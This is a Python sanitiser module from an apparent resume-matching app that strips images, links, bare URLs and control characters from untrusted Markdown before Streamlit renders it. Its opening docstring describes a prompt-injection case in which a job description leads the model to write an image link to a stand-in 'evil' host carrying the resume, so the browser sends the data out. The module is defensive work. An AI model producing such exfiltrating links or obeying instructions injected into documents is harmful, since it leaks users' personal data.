"""Untrusted text made safe to render and to store: no remote images, no links, no control characters.

Model output, job descriptions, document text and user input are rendered as Markdown (Streamlit escapes
raw HTML). A JD can talk the model into writing `![](https://evil/?q=<resume>)`, which the browser would
fetch the moment the result is shown, sending resume data out. `safe_markdown` keeps the formatting
(headings, lists, emphasis, tables, code) and removes every construct that makes a link or loads an
image: inline and reference images and links become their text, autolinks and bare URLs become code spans
(shown, never linked), brackets and angle brackets left over are escaped. Code spans and fenced blocks are
left alone: nothing inside them renders as a link or image.

`strip_controls` / `check_controls` handle NUL and the other C0/C1 control characters at the boundary of
every form: Postgres refuses NUL in text, and the others have no business in a resume or a name.
"""

from __future__ import annotations

import re
import unicodedata

from core.errors import InvalidInput

# C0 controls except tab and newline (CR is folded into newline), DEL, and C1 controls.
_CONTROLS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_CODE_SPAN = re.compile(r"(`+)(?:.+?)(?<!`)\1(?!`)", re.DOTALL)
_IMAGE = re.compile(r"!\[((?:[^\[\]\\]|\\.)*)\]\((?:[^()\\]|\\.|\([^()]*\))*\)")
_LINK = re.compile(r"\[((?:[^\[\]\\]|\\.)*)\]\((?:[^()\\]|\\.|\([^()]*\))*\)")
_REF_IMAGE_OR_LINK = re.compile(r"!?\[((?:[^\[\]\\]|\\.)*)\]\[[^\[\]]*\]")
_REF_DEFINITION = re.compile(r"^ {0,3}\[[^\]]+\]:\s*\S+.*$", re.MULTILINE)
_URL = re.compile(r"(?:[a-zA-Z][a-zA-Z0-9+.\-]{1,31}://|www\.)[^\s`<>]+", re.IGNORECASE)
_SPECIAL = re.compile(r"([\\\[\]<`$])")


def strip_controls(text: str) -> str:
    """The text without control characters (tab and newline kept; CRLF and CR become a newline)."""
    return _CONTROLS.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))


def has_controls(text: str) -> bool:
    return _CONTROLS.search(text.replace("\r\n", "\n").replace("\r", "\n")) is not None


def check_controls(text: str, field: str = "text") -> str:
    """Refuse text holding control characters (InvalidInput "input.error.control_chars"); returns it unchanged."""
    if has_controls(text):
        raise InvalidInput("input.error.control_chars", field=field)
    return text


def safe_markdown(text: object) -> str:
    """Markdown that renders the same text and formatting, minus every image, link and control character."""
    source = strip_controls(unicodedata.normalize("NFC", str(text)))
    out: list[str] = []
    prose: list[str] = []
    fence: str | None = None
    for line in source.split("\n"):
        marker = _FENCE.match(line)
        if fence is None and marker:
            if prose:
                out.append(_prose("\n".join(prose)))
            prose = []
            fence = marker.group(1)[0] * len(marker.group(1))
            out.append(line)
        elif fence is not None:
            out.append(line)
            if line.strip().startswith(fence) and not line.strip().strip(fence[0]):
                fence = None
        else:
            prose.append(line)
    if prose:
        out.append(_prose("\n".join(prose)))
    return "\n".join(out)


def safe_inline(text: object) -> str:
    """One piece of untrusted text interpolated into a Markdown template (an email, a title, a label)."""
    return safe_markdown(str(text).replace("\n", " "))


def _prose(text: str) -> str:
    """Outside fenced blocks: code spans kept verbatim, everything between them neutralised."""
    pieces: list[str] = []
    cursor = 0
    for span in _CODE_SPAN.finditer(text):
        pieces.append(_neutralise(text[cursor : span.start()]))
        pieces.append(span.group(0))
        cursor = span.end()
    pieces.append(_neutralise(text[cursor:]))
    return "".join(pieces)


def _neutralise(text: str) -> str:
    text = _REF_DEFINITION.sub("", text)
    for _ in range(3):  # an image inside a link's text: peel one layer per pass
        text = _IMAGE.sub(lambda m: m.group(1), text)
        text = _LINK.sub(lambda m: m.group(1), text)
        text = _REF_IMAGE_OR_LINK.sub(lambda m: m.group(1), text)
    pieces: list[str] = []
    cursor = 0
    for url in _URL.finditer(text):  # a URL holds no backtick, so its code span is well formed
        pieces.append(_escape(text[cursor : url.start()]))
        pieces.append(f"`{url.group(0)}`")
        cursor = url.end()
    pieces.append(_escape(text[cursor:]))
    return "".join(pieces)


def _escape(text: str) -> str:
    """Escape what could still open a link, an autolink or a code span swallowing a URL's backticks.

    Backslashes too: otherwise `\\[` (an escaped backslash) would leave the bracket live. Dollars too:
    Streamlit renders `$...$` as KaTeX, whose `\\href` and `\\includegraphics` are links and images.
    """
    return _SPECIAL.sub(r"\\\1", text)


def safe_code(text: object) -> str:
    """Untrusted text as one inline code span: nothing inside renders, and no backtick in it can close it early."""
    body = strip_controls(str(text)).replace("\n", " ")
    longest = max((len(run) for run in re.findall(r"`+", body)), default=0)
    fence = "`" * (longest + 1)
    return f"{fence} {body} {fence}" if body.strip() else ""
